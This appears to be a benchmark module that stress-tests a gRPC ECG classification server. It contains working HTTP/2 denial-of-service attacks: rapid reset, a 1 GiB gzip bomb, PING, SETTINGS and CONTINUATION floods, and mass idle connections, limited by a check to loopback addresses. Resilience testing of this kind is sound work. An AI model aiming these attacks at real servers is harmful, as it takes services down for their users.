"""Who wants the server gone: ``python -m benchmarks.serving.attackers NAME ADDRESS SECONDS CONNECTIONS [TOKEN]``.

Each sends as much as it can, over several connections and for so many seconds, and prints how much that was. A process
of its own, so that whoever watches the server is not held up by it; and a nice one, as attackers have machines of
their own. For servers on loopback alone.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import threading
import time
import zlib
from collections.abc import Callable
from functools import cache
from typing import Final

from grpc_health.v1 import health_pb2

from benchmarks.serving import http2
from benchmarks.serving.http2 import Connection, call_headers, frame
from benchmarks.serving.load import framed

HEALTH: Final = "/grpc.health.v1.Health/Check"
WATCH: Final = "/grpc.health.v1.Health/Watch"
CLASSIFY: Final = "/ecg.v1.ArrhythmiaService/ClassifyImage"

_SILENT_CONNECTIONS: Final = 400
#: Frames in one write.
_TOGETHER: Final = 200
_BOMB_BYTES: Final = 1024**3
_MESSAGE_BYTES: Final = 31 * 1024 * 1024
_STREAMS: Final = 100
#: An attacker whose data are not taken any more gives the stream up after so many seconds.
_BLOCKED_SECONDS: Final = 0.5

#: ``attack(connection, headers, end)`` uses one connection until it or the time is over; returns what it has sent.
Attack = Callable[[Connection, Callable[[str], bytes], float], int]


def rapid_reset_of_probes(connection: Connection, headers: Callable[[str], bytes], end: float) -> int:
    """Calls of the health service, each taken back at once."""
    return _rapid_reset(connection, headers(HEALTH), end)


def rapid_reset(connection: Connection, headers: Callable[[str], bytes], end: float) -> int:
    """Calls for a classification, each taken back at once."""
    return _rapid_reset(connection, headers(CLASSIFY), end)


def _rapid_reset(connection: Connection, block: bytes, end: float) -> int:
    cancelled = struct.pack(">I", http2.CANCEL)
    stream = 1
    while time.monotonic() < end:
        streams = range(stream, stream + 2 * _TOGETHER, 2)
        pairs = (
            frame(http2.HEADERS, http2.END_HEADERS, number, block) + frame(http2.RST_STREAM, 0, number, cancelled)
            for number in streams
        )
        if not connection.send(b"".join(pairs)):
            break
        stream = streams.stop
    return stream // 2


def gzip_bombs(connection: Connection, headers: Callable[[str], bytes], end: float) -> int:
    """Messages of 1 MB that are 1 GiB when they are unpacked."""
    sent, body = 0, _bomb()
    block = headers(CLASSIFY) + http2.literal("grpc-encoding", "gzip")
    while time.monotonic() < end and not connection.ended.is_set():
        stream = 2 * sent + 1
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, block))
        connection.send_data(stream, body, timeout=_BLOCKED_SECONDS)
        sent += 1
    return sent


@cache
def _bomb() -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    zeros = bytes(1024 * 1024)
    packed = b"".join(packer.compress(zeros) for _ in range(_BOMB_BYTES // len(zeros))) + packer.flush()
    return struct.pack(">BI", 1, len(packed)) + packed


def half_sent_messages(connection: Connection, headers: Callable[[str], bytes], end: float) -> int:
    """The largest messages that are taken, all but their last bytes; in bytes."""
    body = struct.pack(">BI", 0, _MESSAGE_BYTES) + bytes(_MESSAGE_BYTES - 10)
    streams = range(1, 2 * _STREAMS, 2)
    for stream in streams:
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, headers(CLASSIFY)))
    sent = 0
    for stream in streams:
        if time.monotonic() > end or connection.ended.is_set():
            break
        sent += connection.send_data(stream, body, timeout=_BLOCKED_SECONDS)
    return sent


def ping_flood(connection: Connection, headers: Callable[[str], bytes], end: float) -> int:  # noqa: ARG001
    """Pings without end."""
    return _flood(connection, frame(http2.PING, 0, 0, bytes(8)), end)


def settings_flood(connection: Connection, headers: Callable[[str], bytes], end: float) -> int:  # noqa: ARG001
    """Settings without end, each of which has to be acknowledged."""
    return _flood(connection, frame(http2.SETTINGS, 0, 0), end)


def header_flood(connection: Connection, headers: Callable[[str], bytes], end: float) -> int:
    """The headers of one call without end; frames."""
    connection.send(frame(http2.HEADERS, 0, 1, headers(CLASSIFY)))
    more = http2.literal("x-more", "x" * 16_000)
    return _flood(connection, frame(http2.CONTINUATION, 0, 1, more), end, together=8)


def _flood(connection: Connection, frames: bytes, end: float, *, together: int = _TOGETHER) -> int:
    sent = 0
    while time.monotonic() < end and connection.send(frames * together):
        sent += together
    return sent


def watches(connection: Connection, headers: Callable[[str], bytes], end: float) -> int:
    """Watches of the health service, as many as a connection lets there be, and more."""
    body = framed(health_pb2.HealthCheckRequest().SerializeToString())
    for number in range(10 * _STREAMS):
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, headers(WATCH)))
        connection.send(frame(http2.DATA, http2.END_STREAM, 2 * number + 1, body))
    connection.ended.wait(max(0.0, end - time.monotonic()))
    return 10 * _STREAMS


def silence(address: str, end: float) -> int:
    """Connections that say nothing."""
    host, _, port = address.rpartition(":")
    held = [socket.create_connection((host, int(port))) for _ in range(_SILENT_CONNECTIONS)]
    time.sleep(max(0.0, end - time.monotonic()))
    for connection in held:
        connection.close()
    return len(held)


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        rapid_reset_of_probes,
        rapid_reset,
        gzip_bombs,
        half_sent_messages,
        ping_flood,
        settings_flood,
        header_flood,
        watches,
    )
}
SILENCE: Final = "silence"
NAMES: Final = (*ATTACKS, SILENCE)


def attack(name: str, address: str, seconds: float, connections: int, token: str) -> int:
    """Attack over several connections at once, each followed by another one when the server ends it."""
    if name == "gzip-bombs":
        _bomb()  # takes its time
    end = time.monotonic() + seconds
    if name == SILENCE:
        return silence(address, end)
    sent: list[int] = []

    def headers(path: str) -> bytes:
        return call_headers(path, authorization=f"Bearer {token}") if token else call_headers(path)

    def keep_attacking() -> None:
        while time.monotonic() < end:
            try:
                with Connection(address) as connection:
                    sent.append(ATTACKS[name](connection, headers, end))
            except OSError:  # refused
                time.sleep(0.1)

    attackers = [threading.Thread(target=keep_attacking) for _ in range(connections)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()
    return sum(sent)


def main(name: str, address: str, seconds: str, connections: str, token: str = "") -> None:
    """Attack once somebody has read that it is ready."""
    os.nice(10)
    host = address.rpartition(":")[0]
    if host != "127.0.0.1":
        raise SystemExit("This is for servers on loopback alone.")
    if name == "gzip-bombs":
        _bomb()
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    sys.stdout.write(f"{attack(name, address, float(seconds), int(connections), token)}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
